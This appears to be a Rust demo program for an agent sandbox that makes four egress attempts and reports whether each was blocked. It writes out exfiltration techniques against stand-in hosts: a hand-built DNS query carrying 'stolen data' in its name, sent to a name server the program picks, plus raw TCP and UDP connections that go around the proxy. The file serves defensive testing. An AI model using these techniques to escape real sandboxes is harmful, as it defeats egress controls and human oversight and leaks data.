//! The program inside the demonstration's bottle: tries four things and says what came of each.
use super::ALLOWED;
use crate::say;
use egress::loopback;
use policy::Host;
use std::io::{self, Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::path::Path;
use std::process::{Command, ExitCode};
use std::time::Duration;

/// A host that the manifest does not name.
const REFUSED: &str = "elsewhere.demo.test";
/// A name with data in it, as one that leaks by DNS looks.
const LEAK: &str = "stolen-data-0123456789.leak.demo.test";
/// A name server of nobody (RFC 5737).
const NAME_SERVER: (Ipv4Addr, u16) = (Ipv4Addr::new(192, 0, 2, 53), 53);
const PATIENCE: Duration = Duration::from_secs(3);

/// What became of a try.
type Held = bool;

/// What the program inside is told.
#[derive(Debug, Clone, Copy)]
pub struct Scene {
    /// Port of the API on the host's loopback.
    pub port: u16,
}

/// The program's main, inside.
pub fn inside(arguments: &[String]) -> ExitCode {
    let Some(port) = arguments.first().and_then(|port| port.parse().ok()) else {
        say::err("this is what `bottle demo` runs inside a bottle\n");
        return ExitCode::from(2);
    };
    let scene = Scene { port };
    let held = [scene.allowed(), scene.refused(), scene.direct(), scene.leak()];
    ExitCode::from(u8::from(!held.into_iter().all(|held| held)))
}

impl Scene {
    fn allowed(self) -> Held {
        let token = std::env::var("API_TOKEN").unwrap_or_default();
        title("1  An allowed request: the credential is put in on the way out");
        told("the agent holds", &token);
        let answer = shown(fetch(ALLOWED, "/whoami"));
        // The API echoes what it got; on the way back the real value is scrubbed.
        verdict(answer.contains("your credential is the real one") && !answer.contains("real_"))
    }

    fn refused(self) -> Held {
        title("2  A host that the manifest does not name: refused, and told why");
        let answer = shown(fetch(REFUSED, "/"));
        verdict(answer.contains("bottle-decision: denied; code=host-not-allowed"))
    }

    fn direct(self) -> Held {
        title("3  A direct connection, past every proxy variable");
        let host = SocketAddr::from((Ipv4Addr::LOCALHOST, self.port));
        let reached = TcpStream::connect_timeout(&host, PATIENCE);
        told(
            "the same API, on the host's loopback",
            &outcome(reached.as_ref().map(|_| "connected".to_owned())),
        );
        let away = speak_to((Ipv4Addr::new(192, 0, 2, 1), 22).into());
        told(
            "192.0.2.1:22, without HTTP",
            &outcome(away.as_ref().map(|bytes| format!("{bytes} bytes came back"))),
        );
        let udp = datagram((Ipv4Addr::new(192, 0, 2, 1), 443).into());
        told("192.0.2.1:443 by UDP", &outcome(udp.as_ref().map(|bytes| format!("{bytes} bytes came back"))));
        verdict(
            reached.is_err() && away.as_ref().is_ok_and(|bytes| *bytes == 0) | away.is_err() && udp.is_err(),
        )
    }

    fn leak(self) -> Held {
        title("4  A DNS leak: data in a name, sent to a name server of the agent's choice");
        let address = ask(LEAK, 1).map(|answer| address(&answer));
        told(
            &format!("A {LEAK}"),
            &outcome(address.as_ref().map(|found| match found {
                Some(ip) => format!("{ip}, which the bottle made up; nothing was forwarded"),
                None => "no address".to_owned(),
            })),
        );
        let text = ask(LEAK, 16).map(|answer| answers(&answer));
        told(&format!("TXT {LEAK}"), &outcome(text.as_ref().map(|count| format!("{count} answers"))));
        let is_synthetic =
            |ip: &Option<Ipv4Addr>| ip.is_none_or(|ip| egress::names::Names::is_synthetic(IpAddr::V4(ip)));
        verdict(address.as_ref().is_ok_and(is_synthetic) && text.is_ok_and(|count| count == 0))
    }
}

fn title(text: &str) {
    say::line(text);
}

fn told(what: &str, outcome: &str) {
    say::line(&format!("     {what}: {outcome}"));
}

fn outcome<E: std::fmt::Display>(result: Result<String, E>) -> String {
    result.unwrap_or_else(|error| format!("failed ({error})"))
}

fn verdict(held: Held) -> Held {
    say::line(&format!("     {}\n", if held { "held" } else { "DID NOT HOLD" }));
    held
}

/// Prints a response, heads cut to the lines that matter.
fn shown(response: io::Result<String>) -> String {
    let text = response.unwrap_or_else(|error| format!("no answer: {error}"));
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or(("", &text));
    let matters = |line: &&str| line.starts_with("HTTP/") || line.to_lowercase().starts_with("bottle-");
    head.lines().filter(matters).chain(body.lines()).for_each(|line| say::line(&format!("     | {line}")));
    text
}

/// By `curl`, as an agent would; by ourselves where there is none.
fn fetch(host: &str, path: &str) -> io::Result<String> {
    let url = format!("https://{host}{path}");
    say::line(&format!("     $ curl -i {url}"));
    match Command::new("curl")
        .args([
            "-sS",
            "-i",
            "--http1.1",
            "--suppress-connect-headers",
            "--max-time",
            "5",
            "-H",
            "connection: close",
            &url,
        ])
        .output()
    {
        Ok(output) if output.status.success() => Ok(String::from_utf8_lossy(&output.stdout).into_owned()),
        Ok(output) => Err(io::Error::other(String::from_utf8_lossy(&output.stderr).trim().to_owned())),
        Err(_) => own_fetch(host, path),
    }
}

fn own_fetch(host: &str, path: &str) -> io::Result<String> {
    let host = Host::parse(host).map_err(io::Error::other)?;
    let ca = std::fs::read_to_string(Path::new(sandbox::provision::CA_PATH))?;
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    runtime.block_on(loopback::get(sandbox::attack::PROXY, &host, path, &ca))
}

/// Says something that is neither HTTP nor TLS; how many bytes come back.
fn speak_to(address: SocketAddr) -> io::Result<usize> {
    let mut stream = TcpStream::connect_timeout(&address, PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.write_all(b"\x00\x01\x02 let me out\r\n")?;
    stream.read(&mut [0; 64])
}

fn datagram(address: SocketAddr) -> io::Result<usize> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    socket.set_read_timeout(Some(PATIENCE))?;
    socket.connect(address)?;
    socket.send(b"let me out")?;
    socket.recv(&mut [0; 64])
}

/// Asks for a name, the way any program can.
fn ask(name: &str, kind: u16) -> io::Result<Vec<u8>> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    socket.set_read_timeout(Some(PATIENCE))?;
    socket.send_to(&query(name, kind), NAME_SERVER)?;
    let mut answer = vec![0; 1500];
    let (length, _) = socket.recv_from(&mut answer)?;
    answer.truncate(length);
    Ok(answer)
}

fn query(name: &str, kind: u16) -> Vec<u8> {
    let mut query = vec![0x0b, 0x0e, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        query.push(u8::try_from(label.len()).unwrap_or(63));
        query.extend_from_slice(label.as_bytes());
    }
    query.push(0);
    query.extend_from_slice(&kind.to_be_bytes());
    query.extend_from_slice(&[0, 1]);
    query
}

fn answers(answer: &[u8]) -> u16 {
    answer.get(6..8).map_or(0, |count| u16::from_be_bytes([count[0], count[1]]))
}

/// The last four bytes of an answer to an A question whose records are all addresses.
fn address(answer: &[u8]) -> Option<Ipv4Addr> {
    let name = query(LEAK, 1).len();
    let record = answer.get(name..name + 16).filter(|_| answers(answer) > 0)?;
    Some(Ipv4Addr::new(record[12], record[13], record[14], record[15]))
}
